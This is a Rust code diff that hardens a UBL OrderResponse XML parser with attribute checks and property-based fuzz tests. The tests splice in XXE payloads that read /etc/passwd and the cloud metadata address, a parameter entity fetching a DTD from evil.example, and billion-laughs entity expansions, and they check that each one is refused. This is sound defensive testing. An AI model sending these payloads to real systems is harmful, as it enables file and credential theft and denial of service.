@@ -153,6 +153,7 @@ pub fn parse_order_response(xml: &[u8]) -> Result<OrderResponse, UblError> {
                 }
             }
             Event::Start(start) => {
+                check_attributes(&start)?;
                 state.start(namespace, start.local_name().as_ref())?;
             }
             Event::End(_) => state.end()?,
@@ -168,6 +169,25 @@ pub fn parse_order_response(xml: &[u8]) -> Result<OrderResponse, UblError> {
             Event::Empty(_) | Event::Comment(_) | Event::PI(_) => {}
         }
     }
+}
+
+/// Attribute values are never used, but a document whose attributes are not well-formed
+/// (an undeclared entity, a stray `&`, a duplicate name) is refused like any other
+/// malformed XML, never silently accepted.
+fn check_attributes(start: &quick_xml::events::BytesStart<'_>) -> Result<(), UblError> {
+    use quick_xml::escape::EscapeError;
+    for attribute in start.attributes() {
+        let attribute =
+            attribute.map_err(|e| UblError::Malformed(truncated(&e.to_string(), 200)))?;
+        match attribute.normalized_value(quick_xml::XmlVersion::Implicit1_0) {
+            Ok(_) => {}
+            Err(quick_xml::Error::Escape(EscapeError::UnrecognizedEntity(_, name))) => {
+                return Err(UblError::UndefinedEntity(excerpt(&name)))
+            }
+            Err(e) => return Err(UblError::Malformed(truncated(&e.to_string(), 200))),
+        }
+    }
+    Ok(())
 }
 
 /// The namespace an element is in, reduced to the ones we match on.
@@ -1207,5 +1227,151 @@ mod tests {
             "<!-- <cbc:Note>no</cbc:Note> --><?pi data?><cbc:Note>yes<!-- x --> too</cbc:Note>",
         );
         assert_eq!(parse(&xml).note.as_deref(), Some("yes too"));
+    }
+
+    /// Pieces of XML and of attacks spliced into documents by the property tests.
+    const SPLICES: &[&str] = &[
+        "<",
+        ">",
+        "&",
+        "&amp;",
+        "&#0;",
+        "&#x10FFFF;",
+        "&#xD800;",
+        "&lol;",
+        "]]>",
+        "<![CDATA[x",
+        "<!-- ",
+        "-->",
+        "<?pi x?>",
+        "</cbc:ID>",
+        "<cac:OrderLine>",
+        "</OrderResponse>",
+        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
+        "&e;",
+        "xmlns:cbc=\"\"",
+        "<cbc:ID>",
+        "\u{0}",
+        "\u{feff}",
+        "\u{202e}",
+        "é",
+        "\"",
+        "'",
+        " a=\"1\"",
+        "<a:b>",
+        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>",
+    ];
+
+    /// The longest a parse may take in these tests (debug build, shared machine).
+    const PARSE_BUDGET: std::time::Duration = std::time::Duration::from_millis(250);
+
+    fn timed_parse(bytes: &[u8]) -> Result<OrderResponse, UblError> {
+        let started = std::time::Instant::now();
+        let result = parse_order_response(bytes);
+        let took = started.elapsed();
+        assert!(
+            took < PARSE_BUDGET,
+            "parse took {took:?} for {} bytes",
+            bytes.len()
+        );
+        result
+    }
+
+    fn document(code: &str, line_count: usize, statuses: &[&str]) -> String {
+        let lines: String = (0..line_count)
+            .map(|i| line(&(i + 1).to_string(), statuses[i % statuses.len()]))
+            .collect();
+        minimal(code, &lines)
+    }
+
+    proptest::proptest! {
+        /// Arbitrary bytes are refused (or, by chance, read), never a panic, in bounded time.
+        #[test]
+        fn random_bytes_never_panic(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..2048)) {
+            let _ = timed_parse(&bytes);
+        }
+
+        /// Valid documents with bytes flipped, removed or duplicated, and pieces of XML or of
+        /// attacks spliced in anywhere: never a panic, always bounded time, and whatever is
+        /// accepted still names the order.
+        #[test]
+        fn mutated_documents_never_panic(
+            code in proptest::sample::select(vec!["AB", "AP", "RE", "CA"]),
+            line_count in 0usize..6,
+            edits in proptest::collection::vec((0usize..4, proptest::prelude::any::<usize>(), proptest::prelude::any::<u8>(), proptest::sample::select(SPLICES.to_vec())), 1..8),
+        ) {
+            let mut bytes = document(code, line_count, &["5", "7"]).into_bytes();
+            for (kind, at, byte, splice) in edits {
+                let at = at % (bytes.len() + 1);
+                match kind {
+                    0 if at < bytes.len() => bytes[at] ^= byte | 1,
+                    1 if at < bytes.len() => { bytes.remove(at); }
+                    2 => { let piece = bytes[at..].iter().take(40).copied().collect::<Vec<_>>(); bytes.splice(at..at, piece); }
+                    _ => { bytes.splice(at..at, splice.bytes()); }
+                }
+            }
+            if let Ok(response) = timed_parse(&bytes) {
+                proptest::prop_assert!(!response.order_reference.is_empty());
+                proptest::prop_assert!(response.lines.len() <= MAX_LINES);
+            }
+        }
+
+        /// A DOCTYPE anywhere before the root is refused, whatever it declares: internal
+        /// entities (billion laughs), external ones (XXE), parameter entities.
+        #[test]
+        fn every_doctype_is_refused(
+            entity in proptest::sample::select(vec![
+                "<!ENTITY a \"aaaaaaaaaa\">",
+                "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
+                "<!ENTITY xxe SYSTEM \"http://169.254.169.254/latest/meta-data/\">",
+                "<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;",
+                "<!ENTITY a \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY b \"&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY c \"ccccccccccccccc\">",
+            ]),
+            copies in 1usize..4,
+            reference in proptest::sample::select(vec!["&a;", "&xxe;", "&b;", "x"]),
+        ) {
+            let doctype = format!("<!DOCTYPE OrderResponse [{}]>", entity.repeat(copies));
+            let xml = minimal("AP", "").replacen(
+                "<OrderResponse ",
+                &format!("{doctype}\n<OrderResponse "),
+                1,
+            ).replacen("R-1", reference, 1);
+            proptest::prop_assert_eq!(timed_parse(xml.as_bytes()).unwrap_err(), UblError::DoctypeRefused);
+        }
+
+        /// An entity reference that is not one of the five predefined ones is refused where
+        /// it stands, in text or in an attribute.
+        #[test]
+        fn undeclared_entities_are_refused(name in "[a-z][a-z0-9]{0,10}", in_attribute in proptest::prelude::any::<bool>()) {
+            proptest::prop_assume!(!["lt", "gt", "amp", "apos", "quot"].contains(&name.as_str()));
+            let xml = if in_attribute {
+                minimal("AP", "").replacen("<cbc:ID>R-1</cbc:ID>", &format!("<cbc:ID schemeID=\"&{name};\">R-1</cbc:ID>"), 1)
+            } else {
+                minimal("AP", "").replacen("R-1", &format!("R-&{name};"), 1)
+            };
+            proptest::prop_assert_eq!(timed_parse(xml.as_bytes()).unwrap_err(), UblError::UndefinedEntity(name));
+        }
+    }
+
+    /// The largest document accepted, with as many lines as allowed, still parses quickly.
+    #[test]
+    fn the_largest_document_parses_in_bounded_time() {
+        let xml = document("CA", MAX_LINES, &["5", "7"]);
+        assert!(xml.len() < MAX_INPUT_BYTES);
+        let started = std::time::Instant::now();
+        let response = parse_order_response(xml.as_bytes()).unwrap();
+        assert_eq!(response.lines.len(), MAX_LINES);
+        assert!(started.elapsed() < std::time::Duration::from_secs(2));
+        // And a document of the maximum size made of one long text.
+        let padded = minimal(
+            "AP",
+            &format!(
+                "<cbc:Note>{}</cbc:Note>",
+                "x".repeat(MAX_INPUT_BYTES - 1000)
+            ),
+        );
+        let started = std::time::Instant::now();
+        let _ = parse_order_response(&padded.as_bytes()[..MAX_INPUT_BYTES.min(padded.len())]);
+        assert!(started.elapsed() < std::time::Duration::from_secs(2));
     }
 }
